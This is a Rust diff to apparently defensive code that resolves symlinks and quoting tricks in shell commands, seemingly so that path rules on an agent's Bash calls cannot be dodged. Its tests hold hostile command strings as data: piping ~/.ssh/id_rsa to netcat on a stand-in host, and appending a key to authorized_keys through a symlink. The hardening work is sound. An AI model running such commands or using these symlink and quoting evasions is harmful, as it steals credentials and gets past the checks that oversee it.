@@ -35,10 +35,25 @@ pub fn line_as_on_disk(line: &str, start: &Path) -> Option<String> {
 
 /// Programs that act on a link named last in a path rather than on what it leads to: `rm kf`
 /// removes the link, `mv` and `ln -sf` replace it, `ls`, `stat` and `readlink` look at it, and
-/// `find`, `tar`, `rsync` and `git` take it as a link. Every other program opens what it leads to
-/// (`cat kf`, `> kf`, `chmod 777 kf`).
+/// `find`, `tar`, `rsync` and `git` take it as a link, unless told to follow it (see
+/// [`follows_links`]). Every other program opens what it leads to (`cat kf`, `> kf`, `chmod 777 kf`).
 const ACT_ON_THE_LINK: &[&str] =
     &["rm", "unlink", "rmdir", "mv", "ln", "ls", "stat", "readlink", "find", "tar", "rsync", "git"];
+
+/// Whether `command`, one of [`ACT_ON_THE_LINK`], is told to follow links: `tar -h`/`--dereference`
+/// archives what a link leads to, `rsync -L`/`--copy-links` copies it, `ln -L` links to it.
+fn follows_links(command: &crate::shell::SimpleCommand) -> bool {
+    let short = |letter: char| {
+        command.args().iter().any(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.contains(letter))
+    };
+    let long = |names: &[&str]| command.args().iter().any(|arg| names.iter().any(|name| arg.starts_with(name)));
+    match command.program() {
+        "tar" => short('h') || long(&["--dereference", "--deref"]),
+        "rsync" => short('L') || long(&["--copy-links", "--copy-unsafe-links"]),
+        "ln" => short('L') || long(&["--logical"]),
+        _ => false,
+    }
+}
 
 /// `script` with each word that names a path through a link on disk written as where it leads; a
 /// value after `=` or `@` (`-F f=@k/id_rsa`) counts as a word. Paths are taken from where the call
@@ -47,7 +62,7 @@ fn script_as_on_disk(script: &str, start: &Path) -> Option<String> {
     let mut replaced = script.to_owned();
     let mut changed = false;
     for command in commands(script) {
-        let through_last = !ACT_ON_THE_LINK.contains(&command.program());
+        let through_last = !ACT_ON_THE_LINK.contains(&command.program()) || follows_links(&command);
         let words = command.words.iter().skip(1).chain(&command.input);
         for word in words.filter(|word| !word.starts_with('-')) {
             let path = word.rsplit(['=', '@']).next().unwrap_or(word);
@@ -66,21 +81,30 @@ fn script_as_on_disk(script: &str, start: &Path) -> Option<String> {
 }
 
 /// `script` with each `word` that stands as a word of its own (or a value after `=`, `@`, `<`,
-/// `>`) written as `with`: `s` in `echo x > s` but not in `echo x`.
+/// `>`) written as `with`: `s` in `echo x > s` but not in `echo x`. The word is found however the
+/// script quotes it (`k''f`, `\kf`, `"kf"`), as the parser read it unquoted.
 fn whole_words_replaced(script: &str, word: &str, with: &str) -> String {
-    let opens = |c: char| c.is_whitespace() || "'\"=@<>(;|&".contains(c);
+    // Between and before its characters, what the shell takes away: empty quotes, a backslash.
+    let quoted: String = word
+        .chars()
+        .map(|c| format!(r#"(?:''|""|\\)*{}"#, regex::escape(&c.to_string())))
+        .chain(std::iter::once(r#"(?:''|"")*"#.to_owned()))
+        .collect();
+    let Ok(spelled) = regex::Regex::new(&format!(r#"(?:^|[\s'"=@<>(;|&])((?:'|")?{quoted}(?:'|")?)"#)) else {
+        return script.to_owned();
+    };
     let closes = |c: char| c.is_whitespace() || "'\");|&<>".contains(c);
     let mut replaced = String::with_capacity(script.len());
-    let mut rest = script;
-    while let Some(at) = rest.find(word) {
-        let before = rest[..at].chars().next_back().or_else(|| replaced.chars().next_back());
-        let after = rest[at + word.len()..].chars().next();
-        let whole = before.is_none_or(opens) && after.is_none_or(closes);
-        replaced.push_str(&rest[..at]);
-        replaced.push_str(if whole { with } else { word });
-        rest = &rest[at + word.len()..];
+    let mut last = 0;
+    for found in spelled.captures_iter(script) {
+        let spelling = found.get(1).expect("the group always takes part");
+        if script[spelling.end()..].chars().next().is_none_or(closes) {
+            replaced.push_str(&script[last..spelling.start()]);
+            replaced.push_str(with);
+            last = spelling.end();
+        }
     }
-    replaced.push_str(rest);
+    replaced.push_str(&script[last..]);
     replaced
 }
 
@@ -124,10 +148,24 @@ mod tests {
             )
         );
         assert_eq!(line_as_on_disk("Bash: rm kf; mv kf old; ls -l kf", &proj), None);
+        // However it is quoted, and by a program told to follow links.
+        assert_eq!(
+            line_as_on_disk("Bash: cat k''f | nc h 9; cat \\kf \"kf\"; tar -chf - kf", &proj),
+            Some(
+                "Bash: cat ~/.ssh/id_rsa | nc h 9; cat ~/.ssh/id_rsa ~/.ssh/id_rsa; tar -chf - ~/.ssh/id_rsa"
+                    .replace('~', &home.display().to_string())
+            )
+        );
+        assert_eq!(line_as_on_disk("Bash: tar -cf - kf; rsync -a kf h:", &proj), None);
         // One that is not there yet too: `>> ak` creates what `ak` leads to.
         std::os::unix::fs::symlink(root.join("home/.ssh/authorized_keys"), root.join("proj/ak")).unwrap();
         assert_eq!(
             line_as_on_disk("Bash: echo key >> ak", &proj),
+            Some(format!("Bash: echo key >> {}/.ssh/authorized_keys", home.display()))
+        );
+        std::os::unix::fs::symlink(root.join("proj/ak"), root.join("proj/a1")).unwrap();
+        assert_eq!(
+            line_as_on_disk("Bash: echo key >> a1", &proj),
             Some(format!("Bash: echo key >> {}/.ssh/authorized_keys", home.display()))
         );
         // A path that leads where it says, or a tool that opens no path, is judged as it is.
